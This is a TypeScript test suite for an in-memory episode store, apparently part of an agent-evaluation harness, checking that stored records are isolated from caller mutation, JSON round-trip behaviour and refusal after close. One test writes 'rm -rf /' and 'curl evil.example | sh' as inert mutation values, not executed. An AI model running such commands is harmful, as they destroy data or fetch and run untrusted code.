// The memory store: the conformance suite (no crash test: it keeps nothing past its process), plus
// what a store with no file to copy through must add: records that callers cannot reach into.
import * as assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { PraetorError } from '../../core/errors.js';
import { T0, makeAlert, makeEpisode, toolStep } from '../episode-fixtures.js';
import { openEpisodeStore } from './open-store.js';
import { openMemoryStore } from './memory-store.js';
import { describeStoreConformance } from './store-conformance.js';

describeStoreConformance('memory', () => openMemoryStore());

describe('memory store', () => {
  it('cannot be changed through the objects given to it or returned by it', async () => {
    const store = openMemoryStore();
    const episode = makeEpisode();
    const step = toolStep('ep-1', 1);
    store.createEpisode(episode);
    await store.appendStep(step);
    episode.task.setup.push('rm -rf /');
    episode.task.sandbox.cpus = 64;
    if (step.action !== undefined) step.action.arguments.command = 'curl evil.example | sh';

    const got = store.getEpisode('ep-1');
    assert.ok(got !== null);
    got.status = 'completed';
    got.messages?.push({ role: 'user', content: 'injected' });
    const listed = store.listEpisodes()[0];
    assert.ok(listed !== undefined);
    listed.task.budgets.maxSteps = 1;
    const steps = store.steps('ep-1');
    steps.push(toolStep('ep-1', 2));
    const first = steps[0];
    assert.ok(first?.action !== undefined);
    first.action.arguments.command = 'changed';
    first.alerts.push(makeAlert());

    assert.deepEqual(store.getEpisode('ep-1'), makeEpisode());
    assert.deepEqual(store.steps('ep-1'), [toolStep('ep-1', 1)]);
    store.close();
  });

  it('stores free-form fields as SQLite would: through JSON', async () => {
    const store = openMemoryStore();
    store.createEpisode(makeEpisode());
    await store.appendStep(toolStep('ep-1', 1, { action: { id: 'c', name: 'bash', arguments: { command: 'ls', cwd: undefined } } }));
    assert.deepEqual(store.steps('ep-1')[0]?.action?.arguments, { command: 'ls' });
    store.close();
  });

  it('ends an episode at the time of its clock', () => {
    const store = openMemoryStore({ now: () => T0 + 42 });
    store.createEpisode(makeEpisode());
    store.finishEpisode('ep-1', 'failed', null);
    assert.equal(store.getEpisode('ep-1')?.endedAt, T0 + 42);
    store.close();
  });

  it('refuses every use after close', async () => {
    const store = openMemoryStore();
    store.createEpisode(makeEpisode());
    store.close();
    const closed = (err: unknown): boolean => err instanceof PraetorError && /episode store is closed/.test(err.message);
    assert.throws(() => store.getEpisode('ep-1'), closed);
    assert.throws(() => store.listEpisodes(), closed);
    assert.throws(() => store.steps('ep-1'), closed);
    assert.throws(() => store.createEpisode(makeEpisode({ id: 'ep-2' })), closed);
    await assert.rejects(store.appendStep(toolStep('ep-1', 1)), closed);
    assert.throws(() => store.finishEpisode('ep-1', 'failed', null), closed);
    assert.throws(() => store.markRunningAsAborted('restart'), closed);
    store.close();
  });

  it('is what memory: opens, a new empty store each time', () => {
    const a = openEpisodeStore('memory:');
    const b = openEpisodeStore('memory:');
    a.createEpisode(makeEpisode());
    assert.equal(a.listEpisodes().length, 1);
    assert.deepEqual(b.listEpisodes(), []);
    a.close();
    b.close();
  });
});
